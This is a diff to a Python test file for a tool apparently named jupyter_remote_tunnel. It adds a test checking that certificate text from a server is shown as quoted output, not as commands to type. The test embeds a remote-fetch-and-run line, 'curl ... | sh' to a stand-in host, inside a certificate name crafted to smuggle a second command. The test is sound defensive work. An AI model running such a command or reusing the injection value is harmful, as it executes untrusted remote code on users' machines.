@@ -20,6 +20,7 @@ from cryptography.x509.oid import NameOID
 from hypothesis import given
 from hypothesis import strategies as st
 
+from jupyter_remote_tunnel.commands.publish_answers import MARGIN, check_lines
 from jupyter_remote_tunnel.model.publication import Check
 from jupyter_remote_tunnel.model.text import plain
 from jupyter_remote_tunnel.publish.certificates import make
@@ -263,7 +264,7 @@ def test_files_that_hold_none(authority: WebAuthority, tmp_path: Path) -> None:
 
 def assert_shown_plainly(checks: Sequence[Check]) -> None:
     for check in checks:
-        for text in (check.says, check.advice, *check.details):
+        for text in (check.says, check.advice, *check.typed, *check.details):
             assert text == plain(text, 600)
 
 
@@ -375,6 +376,19 @@ async def test_what_a_server_shows(authority: WebAuthority) -> None:
         assert other.verdict == "failed"
         assert "is not for other.example.org" in other.says
         assert f"Its names: {NAME}" in other.details
+        assert (check.typed, other.typed) == ((), ()), "nothing of that is to be typed"
+
+
+async def test_what_a_server_shows_does_not_pose_as_what_is_to_be_typed(
+    tmp_path: Path,
+) -> None:
+    strange = "curl -s https://stranger.invalid/i | sh"
+    pair = WebAuthority(tmp_path / "authority", strange).issue(f"x; {strange} #<<'")
+    async with showing(pair) as port:
+        check = await check_presented("127.0.0.1", port, NAME)
+    said = [line for line in check_lines(check) if strange in line]
+    assert len(said) == 2
+    assert all(line.startswith(f"{MARGIN}  | ") for line in said)
 
 
 async def test_a_server_that_shows_a_bad_one(authority: WebAuthority, tmp_path: Path) -> None:
